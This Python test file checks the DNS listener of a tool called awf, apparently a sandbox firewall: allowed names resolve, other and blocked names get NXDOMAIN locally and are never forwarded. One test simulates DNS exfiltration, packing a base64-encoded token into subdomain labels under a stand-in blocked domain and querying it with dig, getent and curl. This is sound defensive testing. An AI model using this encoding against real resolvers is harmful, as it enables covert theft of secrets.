"""awf's DNS listener: allowed names answered via --dns-servers, everything else refused locally
and never forwarded (the test DNS server's query log proves it)."""

from __future__ import annotations

import re
import shlex

import pytest

import vnet as V
from conftest import dns_seen


def status(out: str) -> str | None:
    m = re.search(r"status: (\w+)", out)
    return m.group(1) if m else None


def answers(out: str) -> list[str]:
    """The rdata of the ANSWER section of a full dig output."""
    sec = out.split(";; ANSWER SECTION:", 1)
    if len(sec) < 2:
        return []
    rows = []
    for line in sec[1].lstrip("\n").splitlines():
        if not line.strip() or line.startswith(";;"):
            break
        rows.append(line.split()[-1])
    return rows


def split_outputs(out: str) -> list[str]:
    """Outputs of several `dig` runs separated by '@@@' lines."""
    return [p for p in out.split("@@@\n")]


def dig_script(awf, *queries: list[str]) -> list[str]:
    return ["bash", "-c", "; ".join(shlex.join(awf.dig(*q)) + "; echo @@@" for q in queries)]


def test_dig_allowed_name_answered(awf, vnet):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            dig_script(awf, ["api.allowed.test"], ["allowed.test", "AAAA"], ["+tcp", "allowed.test"]))
    outs = split_outputs(r.stdout)
    assert status(outs[0]) == "NOERROR" and answers(outs[0]) == [V.ALLOWED4], r.describe()
    assert status(outs[1]) == "NOERROR" and answers(outs[1]) == [V.ALLOWED6], r.describe()
    assert status(outs[2]) == "NOERROR" and answers(outs[2]) == [V.ALLOWED4], r.describe()
    assert dns_seen(vnet, m, "api.allowed.test"), vnet.dns_queries(m)
    recs = r.audit_for("api.allowed.test", kind="dns", action="allow")
    assert recs, r.describe()
    assert recs[0].get("qtype") in ("A", 1, None) and recs[0].get("rcode") in ("NOERROR", 0, None), recs


def test_dig_not_allowed_refused_and_never_forwarded(awf, vnet, nonce):
    m = vnet.mark()
    name = f"n{nonce}.other.test"
    r = awf(["-d", "allowed.test"],
            dig_script(awf, ["other.test"], [name, "TXT"], ["+tcp", name]))
    outs = split_outputs(r.stdout)
    for o in outs[:3]:
        assert status(o) == "NXDOMAIN", r.describe()
    assert not dns_seen(vnet, m, "other.test"), vnet.dns_queries(m)
    recs = r.audit_for("other.test", kind="dns", action="deny")
    assert recs, r.describe()
    assert r.audit_for(name, kind="dns", action="deny"), r.describe()


@pytest.mark.parametrize("server", [V.DNS4, V.NOSERVER4, V.DNS6, "127.0.0.53"],
                         ids=["real-dns", "no-server", "real-dns-v6", "loopback-stub"])
def test_dig_at_any_address_reaches_awf(awf, vnet, nonce, server):
    m = vnet.mark()
    allowed = f"a{nonce}.allowed.test"
    denied = f"d{nonce}.other.test"
    r = awf(["-d", "allowed.test"],
            dig_script(awf, [f"@{server}", allowed], [f"@{server}", denied]))
    outs = split_outputs(r.stdout)
    assert status(outs[0]) == "NOERROR" and answers(outs[0]) == [V.ALLOWED4], r.describe()
    assert status(outs[1]) == "NXDOMAIN", r.describe()
    assert r.audit_for(allowed, kind="dns", action="allow"), r.describe()
    assert r.audit_for(denied, kind="dns", action="deny"), r.describe()
    # The allowed name reached the test server from awf (the host ns), the denied one never did.
    seen = dns_seen(vnet, m, allowed)
    assert seen and all(q["src"] in (V.HOST4, V.HOST6) for q in seen), vnet.dns_queries(m)
    assert not dns_seen(vnet, m, denied)


def test_exfiltration_name_under_blocked_domain_never_leaves(awf, vnet, nonce):
    m = vnet.mark()
    secret = "c2VjcmV0LXRva2VuLWFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6MDEyMzQ1Njc4OQ"[:63]
    name = f"{secret}.{secret[:40]}.x{nonce}.blocked.test"
    r = awf(["-d", "allowed.test", "--block-domains", "blocked.test"],
            ["bash", "-c", "; ".join([
                shlex.join(awf.dig(name)) + "; echo @@@",
                shlex.join(awf.dig(name, "TXT", f"@{V.DNS4}")) + "; echo @@@",
                shlex.join(awf.dig("+tcp", name, f"@{V.NOSERVER4}")) + "; echo @@@",
                f"getent hosts {name}; echo getent=$?",
                shlex.join(awf.curl("--noproxy", "*", f"https://{name}/", max_time=5)) + " 2>/dev/null",
                shlex.join(awf.curl(f"https://{name}/", max_time=5)) + " 2>/dev/null",
                "true"])])
    outs = split_outputs(r.stdout)
    for o in outs[:3]:
        assert status(o) == "NXDOMAIN", r.describe()
    assert "getent=0" not in r.stdout, r.describe()
    assert not dns_seen(vnet, m, f"x{nonce}.blocked.test"), vnet.dns_queries(m)
    assert not [q for q in vnet.dns_queries(m) if nonce in (q.get("name") or "")]
    assert r.audit_for(name, kind="dns", action="deny"), r.describe()


def test_dns_refused_for_blocked_even_when_allowed(awf, vnet, nonce):
    """Block beats allow in DNS too."""
    m = vnet.mark()
    name = f"x{nonce}.blocked.test"
    r = awf(["-d", "blocked.test,allowed.test", "--block-domains", "blocked.test"],
            dig_script(awf, [name], ["allowed.test"]))
    outs = split_outputs(r.stdout)
    assert status(outs[0]) == "NXDOMAIN" and status(outs[1]) == "NOERROR", r.describe()
    assert not dns_seen(vnet, m, name)


def test_resolv_conf_points_at_awf(awf, vnet):
    r = awf(["-d", "allowed.test"], ["bash", "-c", "cat /etc/resolv.conf; getent hosts allowed.test"])
    assert r.rc == 0, r.describe()
    ns = re.findall(r"^nameserver\s+(\S+)", r.stdout, re.M)
    assert ns and V.DNS4 not in ns, r  # the sandbox asks awf, not the upstream directly
    assert re.search(rf"^({re.escape(V.ALLOWED4)}|{re.escape(V.ALLOWED6)})\s+allowed\.test", r.stdout, re.M), r.describe()
